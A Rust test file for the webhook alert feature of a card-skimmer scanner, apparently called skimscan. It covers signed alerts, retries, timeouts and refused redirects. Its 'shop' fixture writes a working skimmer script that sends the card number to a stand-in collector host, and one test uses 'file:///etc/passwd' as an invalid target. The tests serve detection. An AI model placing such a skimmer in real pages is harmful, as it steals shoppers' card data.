//! `--notify`: a signed JSON alert when the scan reaches --fail-on or is incomplete, retried on
//! transient failures, never followed through a redirect, never hanging the scan; a failed
//! delivery is exit 4. The receiver is a loopback server that checks the signature itself.

mod common;

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use hmac::{Hmac, KeyInit, Mac};
use sha2::Sha256;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const SECRET: &str = "s3cret-for-tests";

/// How the receiver behaves.
#[derive(Clone, Copy)]
enum Mode {
    Accept,
    /// 503 this many times, then 200.
    FailFirst(usize),
    /// Never answers.
    Hang,
    /// 302 to /elsewhere.
    Redirect,
    /// 400 (a final answer).
    Reject,
}

#[derive(Default)]
struct Seen {
    attempts: usize,
    /// Bodies of accepted alerts whose signature verified.
    alerts: Vec<serde_json::Value>,
    bad_signatures: usize,
    elsewhere: usize,
}

struct Receiver {
    url: String,
    seen: Arc<Mutex<Seen>>,
    _rt: tokio::runtime::Runtime,
}

fn receiver(mode: Mode) -> Receiver {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let seen = Arc::new(Mutex::new(Seen::default()));
    let state = (seen.clone(), mode);
    async fn hook(
        State((seen, mode)): State<(Arc<Mutex<Seen>>, Mode)>,
        headers: HeaderMap,
        body: Bytes,
    ) -> Response {
        let attempt = {
            let mut s = seen.lock().unwrap();
            s.attempts += 1;
            s.attempts
        };
        match mode {
            Mode::Hang => {
                tokio::time::sleep(Duration::from_secs(3600)).await;
                return StatusCode::OK.into_response();
            }
            Mode::FailFirst(n) if attempt <= n => {
                return StatusCode::SERVICE_UNAVAILABLE.into_response();
            }
            Mode::Redirect => {
                return (StatusCode::FOUND, [("location", "/elsewhere")]).into_response();
            }
            Mode::Reject => return StatusCode::BAD_REQUEST.into_response(),
            _ => {}
        }
        let mut mac = <Hmac<Sha256> as KeyInit>::new_from_slice(SECRET.as_bytes()).unwrap();
        mac.update(&body);
        let want: String = mac
            .finalize()
            .into_bytes()
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let got = headers
            .get("x-skimscan-signature")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("");
        let mut s = seen.lock().unwrap();
        if got != format!("sha256={want}") {
            s.bad_signatures += 1;
            return StatusCode::UNAUTHORIZED.into_response();
        }
        s.alerts.push(serde_json::from_slice(&body).unwrap());
        StatusCode::OK.into_response()
    }
    async fn elsewhere(State((seen, _)): State<(Arc<Mutex<Seen>>, Mode)>) -> StatusCode {
        seen.lock().unwrap().elsewhere += 1;
        StatusCode::OK
    }
    let app = Router::new()
        .route("/hook", axum::routing::post(hook))
        .route("/elsewhere", axum::routing::post(elsewhere).get(elsewhere))
        .with_state(state);
    let listener = rt
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .unwrap();
    let addr = listener.local_addr().unwrap();
    rt.spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    Receiver {
        url: format!("http://{addr}/hook"),
        seen,
        _rt: rt,
    }
}

/// A checkout page; with `skimmer`, its script sends the card number to a collector.
fn shop(dir: &Path, skimmer: bool) -> String {
    std::fs::create_dir_all(dir).unwrap();
    let script = if skimmer {
        "document.getElementById('f').addEventListener('submit', function () {\n\
         var n = document.getElementById('cc-number').value;\n\
         navigator.sendBeacon('https://img.cdn-metrics.net/c', JSON.stringify({n: n}));\n});"
    } else {
        "document.getElementById('f').addEventListener('submit', function () {});"
    };
    let page = dir.join("checkout.html");
    std::fs::write(
        &page,
        format!(
            "<!doctype html><title>Checkout</title><form id=f action=/order method=post>\
             <input id=cc-number autocomplete=cc-number><input autocomplete=cc-csc name=cvv>\
             </form><script>{script}</script>"
        ),
    )
    .unwrap();
    page.to_string_lossy().into_owned()
}

fn scan_notify(target: &str, url: &str, extra: &[&str]) -> (i32, String, Duration) {
    let t = Instant::now();
    let out = common::skimscan()
        .env("SKIMSCAN_TEST_SECRET", SECRET)
        .args(["scan", "--format", "json", target, "--notify", url])
        .args(["--notify-secret-env", "SKIMSCAN_TEST_SECRET"])
        .args(extra)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        t.elapsed(),
    )
}

#[test]
fn a_malicious_scan_sends_one_signed_alert_naming_the_host() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    let r = receiver(Mode::Accept);
    let (code, err, _) = scan_notify(&page, &r.url, &[]);
    assert_eq!(code, 1, "{err}");
    let s = r.seen.lock().unwrap();
    assert_eq!(s.bad_signatures, 0);
    assert_eq!(s.alerts.len(), 1);
    let a = &s.alerts[0];
    assert_eq!(a["kind"], "skimscan.alert");
    assert_eq!(a["schema_version"], 1);
    assert_eq!(a["verdict"], "malicious");
    assert_eq!(a["reason"], "findings");
    let hosts: Vec<&str> = a["new_findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "critical")
        .flat_map(|f| f["hosts"].as_array().unwrap().iter())
        .filter_map(|h| h.as_str())
        .collect();
    assert!(hosts.contains(&"img.cdn-metrics.net"), "{a}");
    let text = a["text"].as_str().unwrap();
    assert!(
        text.contains("MALICIOUS") && text.contains("img.cdn-metrics.net"),
        "{text}"
    );
    assert!(a["summary"]["findings"]["critical"].as_u64().unwrap() >= 1);
}

#[test]
fn a_clean_complete_scan_sends_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), false);
    let r = receiver(Mode::Accept);
    let (code, err, _) = scan_notify(&page, &r.url, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(r.seen.lock().unwrap().attempts, 0);
}

#[test]
fn an_incomplete_scan_alerts_even_without_findings() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tmp.path()).unwrap();
    // A page whose script is missing from the directory: the scan did not see everything.
    let page = tmp.path().join("checkout.html");
    std::fs::write(
        &page,
        "<!doctype html><form><input autocomplete=cc-number></form><script src=\"/js/missing.js\"></script>",
    )
    .unwrap();
    let r = receiver(Mode::Accept);
    let (code, err, _) = scan_notify(&page.to_string_lossy(), &r.url, &[]);
    assert_eq!(code, 3, "{err}");
    let s = r.seen.lock().unwrap();
    assert_eq!(s.alerts.len(), 1);
    assert_eq!(s.alerts[0]["reason"], "incomplete");
    assert_eq!(s.alerts[0]["complete"], false);
    assert!(!s.alerts[0]["errors"].as_array().unwrap().is_empty());
}

#[test]
fn transient_failures_are_retried_until_delivered() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    let r = receiver(Mode::FailFirst(2));
    let (code, err, _) = scan_notify(&page, &r.url, &[]);
    assert_eq!(code, 1, "delivered on the third attempt: {err}");
    let s = r.seen.lock().unwrap();
    assert_eq!(s.attempts, 3);
    assert_eq!(s.alerts.len(), 1);
}

#[test]
fn a_webhook_that_never_answers_cannot_hang_the_scan() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    let r = receiver(Mode::Hang);
    let (code, err, took) = scan_notify(&page, &r.url, &["--timeout", "1"]);
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("not delivered after 4 attempt(s)"), "{err}");
    // Four 1-second attempts and 3.5 s of backoff; far below a hang.
    assert!(took < Duration::from_secs(30), "{took:?}");
    assert_eq!(r.seen.lock().unwrap().attempts, 4);
}

#[test]
fn redirects_and_client_errors_are_final_and_not_followed() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    for mode in [Mode::Redirect, Mode::Reject] {
        let r = receiver(mode);
        let (code, err, _) = scan_notify(&page, &r.url, &[]);
        assert_eq!(code, 4, "{err}");
        let s = r.seen.lock().unwrap();
        assert_eq!(s.attempts, 1, "a final answer is not retried");
        assert_eq!(s.elsewhere, 0, "the redirect was followed");
        // The webhook's path (often its token) is not printed.
        assert!(!err.contains("/hook"), "{err}");
    }
}

#[test]
fn bad_notify_settings_fail_before_scanning() {
    let tmp = tempfile::tempdir().unwrap();
    let page = shop(tmp.path(), true);
    let out = common::skimscan()
        .args(["scan", &page, "--notify", "file:///etc/passwd"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let out = common::skimscan()
        .env_remove("SKIMSCAN_UNSET_SECRET")
        .args(["scan", &page, "--notify", "http://127.0.0.1:9/h"])
        .args(["--notify-secret-env", "SKIMSCAN_UNSET_SECRET"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("SKIMSCAN_UNSET_SECRET"));
}
